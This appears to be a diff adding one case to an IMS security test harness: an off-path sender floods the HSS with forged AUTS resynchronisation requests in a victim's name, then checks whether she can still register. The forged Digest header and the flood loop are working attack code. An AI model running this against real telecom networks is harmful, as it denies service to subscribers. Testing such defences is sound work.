@@ -1,0 +1,71 @@
+package attack
+
+import (
+	"context"
+	"fmt"
+	"time"
+
+	"imsafe/proto/sip"
+	"imsafe/secure"
+)
+
+// akaResyncStorm: somebody says in a user's name, again and again, that her card has seen another sequence number.
+func akaResyncStorm() Attack {
+	return Attack{
+		ID: "ci.aka.resync-storm", Number: "CI-13", Title: "resynchronisations in the victim's name",
+		Text:     "each makes the HSS verify a token and draw another vector, at the rate of whoever asks",
+		Services: []Service{Availability, Authentication}, Stride: Denial, Threats: []Threat{Interruption, Removal}, Module: ServicesControl,
+		Source: "TS 33.203 6.1.3", Access: both(), Tight: true,
+		Bounds:   Bounds{Packets: 60, Bytes: 90_000, Conns: 2, Time: 3 * time.Second},
+		Variants: []Variant{{Name: "storm", Position: OffPath, Run: resynchronise, Controls: []secure.ControlID{secure.CIAvailabilityBudgetVector}}},
+	}
+}
+
+func resynchronise(ctx context.Context, f *Field, o *Outcome) error {
+	stranger, err := f.StrangerAt(ctx, Elsewhere(0))
+	if err != nil {
+		return err
+	}
+	const rounds = 12
+	judged := 0
+	for i := range rounds {
+		ok, err := stranger.saysAUTS(ctx, Registering{IMPI: f.Alice.IMPI, IMPU: f.Alice.IMPU, Expires: 600})
+		if err != nil {
+			return err
+		}
+		if ok {
+			judged++
+		}
+		o.Arrived("%d challenges asked for and answered with AUTS", i+1)
+	}
+	reached := judged > rounds/2
+	o.Wire(reached, "of %d forged AUTS the HSS judged %d", rounds, judged)
+	return judgeServed(ctx, f, o)
+}
+
+// saysAUTS asks for a challenge and answers it with a token that no card has made. It reports whether the HSS judged that one.
+func (h *Hand) saysAUTS(ctx context.Context, r Registering) (bool, error) {
+	var challenge *sip.Message
+	status, err := h.answeredBy(ctx, h.Registers(r, h.NoResponse(r.IMPI)), &challenge)
+	if err != nil || status != 401 {
+		return false, err
+	}
+	c, err := sip.ParseChallenge(challenge.Get(sip.HdrWWWAuthenticate))
+	if err != nil {
+		return false, fmt.Errorf("attack: %w", err)
+	}
+	authorization := fmt.Sprintf(`Digest username="%s",realm="%s",nonce="%s",uri="sip:%s",response="00000000000000000000000000000000",auts="AAAAAAAAAAAAAAAAAAA="`,
+		r.IMPI, h.f.Domain, c.Nonce, h.f.Domain)
+	status, err = h.answered(ctx, h.Registers(r, authorization))
+	return status == 504, err // the HSS is unable to comply (TS 24.229 5.4.1.2.1)
+}
+
+// judgeServed wants alice to register and bob to reach her; what a budget that holds does to them is a part of every flood.
+func judgeServed(ctx context.Context, f *Field, o *Outcome) error {
+	if _, err := f.Alice.UE.Register(ctx); err != nil {
+		o.Users = 1
+		o.Peer(true, "alice cannot register: %v", err)
+		return nil
+	}
+	return judgeReach(ctx, f, o)
+}
